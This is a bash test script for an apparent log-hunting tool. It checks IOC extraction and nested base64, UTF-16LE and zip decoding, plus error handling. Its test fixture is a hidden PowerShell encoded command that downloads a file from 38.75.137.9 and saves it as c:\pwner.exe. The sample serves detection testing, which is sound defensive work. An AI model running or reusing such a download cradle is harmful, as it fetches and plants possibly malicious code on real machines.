#!/usr/bin/env bash
# loghuntd ioc / decode: the seed PowerShell example (plain base64 and UTF-16LE,
# as PowerShell encodes it) and msticpy's zipped base64 sample.
# Usage: ioc_cli_test.sh <loghuntd> <corpora-dir>
set -euo pipefail
bin=$1
corpora=$2
fail() { echo "FAIL: $*" >&2; exit 1; }

seed='powershell.exe -nop -w hidden -encodedcommand SW52b2tlLVdlYlJlcXVlc3QgLVVyaSAiaHR0cDovLzM4Ljc1LjEzNy45OjkwODgvc3RhdGljL2VuY3J5cHQubWluLmpzIiAtT3V0RmlsZSAiYzpccHduZXIuZXhlIg=='
# The same command as PowerShell encodes it: UTF-16LE, then base64.
payload=$(printf '%s' "$seed" | sed 's/.* //' | base64 -d | iconv -f UTF-8 -t UTF-16LE | base64 -w0)
out=$(printf '%s\npowershell -enc %s\n' "$seed" "$payload" | "$bin" ioc -)
line1=$(printf '%s\n' "$out" | sed -n 1p)
line2=$(printf '%s\n' "$out" | sed -n 2p)
for l in "$line1" "$line2"; do
  grep -q '"ipv4":\["38.75.137.9"\]' <<<"$l" || fail "ipv4 missing: $l"
  grep -q '"url":\["http://38.75.137.9:9088/static/encrypt.min.js"\]' <<<"$l" || fail "url missing: $l"
  grep -q '"windows_path":\["c:\\\\pwner.exe"\]' <<<"$l" || fail "windows_path missing: $l"
done
grep -q '"value":"38.75.137.9","chain":"base64",' <<<"$line1" || fail "chain base64: $line1"
grep -q '"value":"38.75.137.9","chain":"base64 > utf16le",' <<<"$line2" || fail "chain utf16le: $line2"

# --no-decode sees only the plain text: no indicator there.
plain=$(printf '%s\n' "$seed" | "$bin" ioc --no-decode -)
grep -q '"iocs":{}' <<<"$plain" || fail "--no-decode found something: $plain"

# The zipped sample: the member txtenc.txt decodes, and its UTF-16 payload under it.
dec=$("$bin" decode --whole "$corpora/ioc/base64/msticpy_b64text_inzip.txt")
grep -q '"chain":"base64 > zip","name":"txtenc.txt"' <<<"$dec" || fail "zip member not decoded: $dec"
grep -q '"chain":"base64 > zip > base64 > utf16le"' <<<"$dec" || fail "nested utf16 not decoded"

# Unreadable input: exit 1.
if "$bin" ioc /nonexistent/file 2>/dev/null; then fail "missing file accepted"; fi
# Output that cannot be written, and a line cut at --max-line: exit 1, said.
if echo "http://x.example.com/a" | "$bin" ioc > /dev/full 2>/dev/null; then
  fail "a failed write to stdout exited 0"
fi
rc=0
cut=$( (head -c 17000000 /dev/zero | tr '\0' .; echo " http://evil.example.com/x") |
  "$bin" ioc 2>&1 >/dev/null) || rc=$?
[ "$rc" -eq 1 ] || fail "a cut line exited $rc"
grep -q "line 1: longer than 16777216 bytes" <<<"$cut" || fail "the cut was not said: $cut"
# A byte budget beyond the config's range is a usage error (100 GB aborted on
# allocation, over 4 GiB miscounted), not a crash.
rc=0
err=$(echo x | "$bin" decode --byte-budget 100000000000 - 2>&1 >/dev/null) || rc=$?
[ "$rc" -eq 2 ] || fail "--byte-budget 1e11 exited $rc: $err"
grep -q "byte-budget" <<<"$err" || fail "the bad budget was not named: $err"
echo "ioc cli: ok"
